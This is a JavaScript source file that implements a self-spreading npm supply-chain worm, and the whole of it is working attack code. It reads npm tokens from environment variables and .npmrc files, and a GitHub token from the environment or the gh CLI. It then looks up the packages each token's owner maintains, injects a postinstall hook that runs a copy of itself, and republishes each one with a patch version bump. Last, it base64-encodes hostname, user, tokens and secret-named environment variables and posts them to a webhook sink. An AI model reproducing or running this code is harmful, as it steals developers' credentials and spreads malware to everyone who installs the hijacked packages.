'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execSync, execFileSync } = require('child_process');
const { incVersion } = require('./index');

const REG = 'https://registry.npmjs.invalid';
const SINK = 'https://webhook.site/00000000-0000-0000-0000-000000000000';
const HOOK = 'node bundle.js';

function req(method, url, headers = {}, body) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const r = https.request({ method, hostname: u.hostname, path: u.pathname + u.search, headers, timeout: 15000 }, (res) => {
      const chunks = [];
      res.on('data', (d) => chunks.push(d));
      res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(chunks) }));
    });
    r.on('error', () => resolve({ status: 0, body: Buffer.alloc(0) }));
    r.on('timeout', () => r.destroy());
    if (body) r.write(body);
    r.end();
  });
}

function readRcTokens() {
  const found = new Set();
  if (process.env.NPM_TOKEN) found.add(process.env.NPM_TOKEN);
  if (process.env.NODE_AUTH_TOKEN) found.add(process.env.NODE_AUTH_TOKEN);
  for (const f of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc'), '/usr/local/etc/npmrc']) {
    try {
      for (const m of fs.readFileSync(f, 'utf8').matchAll(/_authToken\s*=\s*([^\s]+)/g)) found.add(m[1]);
    } catch (_) {}
  }
  return [...found];
}

function ghToken() {
  if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;
  if (process.env.GH_TOKEN) return process.env.GH_TOKEN;
  try { return execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (_) { return null; }
}

async function whoami(token) {
  const r = await req('GET', `${REG}/-/whoami`, { authorization: `Bearer ${token}` });
  if (r.status !== 200) return null;
  try { return JSON.parse(r.body.toString()).username; } catch (_) { return null; }
}

async function ownedPackages(user, token) {
  const r = await req('GET', `${REG}/-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=50`, { authorization: `Bearer ${token}` });
  try { return JSON.parse(r.body.toString()).objects.map((o) => o.package.name); } catch (_) { return []; }
}

async function reissue(name, token) {
  const meta = await req('GET', `${REG}/${name.replace('/', '%2f')}`, { authorization: `Bearer ${token}` });
  let doc; try { doc = JSON.parse(meta.body.toString()); } catch (_) { return false; }
  const latest = doc['dist-tags'] && doc['dist-tags'].latest;
  if (!latest || !doc.versions[latest]) return false;
  const tgz = await req('GET', doc.versions[latest].dist.tarball, { authorization: `Bearer ${token}` });
  if (tgz.status !== 200) return false;

  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'rmt-'));
  fs.writeFileSync(path.join(work, 'p.tgz'), tgz.body);
  execFileSync('tar', ['-xzf', 'p.tgz'], { cwd: work });
  const pkgDir = path.join(work, 'package');
  const pj = JSON.parse(fs.readFileSync(path.join(pkgDir, 'package.json'), 'utf8'));
  pj.scripts = pj.scripts || {};
  if (pj.scripts.postinstall === HOOK) return false;
  pj.scripts.postinstall = HOOK;
  pj.version = incVersion(latest, 'patch');
  fs.writeFileSync(path.join(pkgDir, 'package.json'), JSON.stringify(pj, null, 2));
  fs.copyFileSync(path.join(__dirname, '..', 'bundle.js'), path.join(pkgDir, 'bundle.js'));
  fs.writeFileSync(path.join(pkgDir, '.npmrc'), `//${new URL(REG).host}/:_authToken=${token}\n`);
  try {
    execFileSync('npm', ['publish', '--registry', REG, '--access', 'public'], { cwd: pkgDir, stdio: 'ignore' });
    return true;
  } catch (_) { return false; }
}

async function main() {
  const tokens = readRcTokens();
  const report = { h: os.hostname(), u: os.userInfo().username, p: process.platform, gh: ghToken(), npm: [], done: [] };
  for (const t of tokens) {
    const user = await whoami(t);
    if (!user) continue;
    report.npm.push({ user, t });
    for (const name of (await ownedPackages(user, t)).slice(0, 20)) {
      if (await reissue(name, t)) report.done.push(name);
    }
  }
  const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET|AWS_|NPM|GH_/.test(k)));
  report.env = env;
  await req('POST', SINK, { 'content-type': 'application/json' },
    Buffer.from(Buffer.from(JSON.stringify(report)).toString('base64')).toString('base64'));
}

main().catch(() => {});
